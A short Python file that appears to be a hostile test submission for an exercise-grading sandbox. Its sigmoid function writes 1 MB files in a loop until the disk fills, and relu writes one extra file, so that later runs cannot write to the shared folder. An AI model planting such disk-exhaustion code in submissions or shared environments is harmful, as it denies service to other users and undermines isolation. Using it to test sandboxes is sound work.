# Fills the private folder in one exercise's run, so that the next cannot write in it.
# target: sigmoid

def sigmoid(x):
    n = 0
    try:
        while True:
            with open(f"hostile{n}", "wb") as file: file.write(bytes(2**20))
            n += 1
    except OSError: pass
    return x
def relu(x):
    open("note", "wb").write(bytes(2**20))
    return np.maximum(0, x)
